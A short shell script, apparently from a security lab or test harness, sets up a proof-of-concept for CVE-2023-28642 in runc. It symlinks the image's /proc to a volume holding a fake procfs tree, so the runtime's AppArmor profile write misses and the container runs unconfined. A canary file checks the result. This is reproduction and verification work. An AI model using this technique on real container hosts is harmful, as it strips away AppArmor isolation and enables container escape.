#!/bin/sh
# CVE-2023-28642: the image's /proc is a symlink to /fakeproc and the config has a volume (a fake
# procfs tree) at /fakeproc: procfs lands on /fakeproc under the volume, the runtime's AppArmor label
# write lands in a plain file and the container runs unconfined. The canary: a marker in
# /sys/kernel/security (bind of $BW_WORK/canary), which any applied container profile denies.
# See README.md.
set -u
. "$BW_LAB/common/lib.sh"
# The rootfs, the fake procfs volume, the manager and the verdict: CVE-2019-16884's too.
. "$BW_LAB/common/label-bypass.sh"

ID=runc-proc-symlink-apparmor-bypass
W=$BW_WORK

label_bypass_rootfs $ID || exit 2
# The image: /proc is a symlink to /fakeproc.
rmdir "$W/rootfs/proc" && ln -s /fakeproc "$W/rootfs/proc" && mkdir "$W/rootfs/fakeproc" || exit 2

# The volume at /fakeproc.
label_bypass_volume "$W/volume" || exit 2

label_bypass_run $ID "$W/rootfs" "$W/volume" /fakeproc "$W/canary"
